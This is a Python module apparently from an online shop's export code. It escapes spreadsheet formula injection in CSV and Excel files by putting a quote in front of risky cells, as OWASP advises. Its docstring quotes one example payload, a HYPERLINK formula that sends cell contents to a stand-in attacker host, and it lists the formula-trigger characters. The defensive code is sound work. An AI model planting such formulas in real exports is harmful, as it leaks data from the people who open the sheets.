"""Cells of the files the shop hands out to be opened in a spreadsheet (CSV and Excel exports).

A spreadsheet program (Excel, WPS, LibreOffice) runs a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula, and a leading tab or carriage return lets one follow: a customer
who names themselves ``=HYPERLINK("http://evil.example/?x="&A1,"点我")`` would otherwise get a
live link (or a DDE command) into the finance clerk's sheet. OWASP's rule for CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection) is to put a single quote in front of
such a cell, so that it is read as text. :func:`safe_text` is that rule, for every export
(CSV and Excel alike). Only text is touched: amounts written as numbers (``Decimal`` yuan,
negative for a refund-heavy day) stay numbers that a column sum adds.

(``defusedcsv`` does this for CSV writers only and also rewrites ``|`` inside cells; the
Excel files need the same rule, so the one function here serves both.)
"""

from __future__ import annotations

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value):
    """``value`` for a spreadsheet cell: a ``str`` that starts with one of
    :data:`FORMULA_STARTS` gets a ``'`` in front (``"=1+1"`` -> ``"'=1+1"``); anything else
    (other text, numbers, dates, ``None``) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    """:func:`safe_text` applied to each cell of ``row`` (an iterable)."""
    return [safe_text(value) for value in row]


def excel_cell(sheet, value):
    """``value`` as a cell of the write-only openpyxl ``sheet``.

    Text goes through :func:`safe_text` and is stored as a string (``data_type`` ``"s"``: never
    a formula, whatever it starts with), without the control characters an XLSX file cannot
    hold (openpyxl would raise ``IllegalCharacterError`` for a nickname with one). A ``Decimal``
    (yuan) is a number shown with two decimals. Other values (ints, ``None``) are returned for
    openpyxl to write as they are.
    """
    from decimal import Decimal

    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=safe_text(ILLEGAL_CHARACTERS_RE.sub("", value)))
        cell.data_type = "s"
        return cell
    if isinstance(value, Decimal):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "0.00"
        return cell
    return value
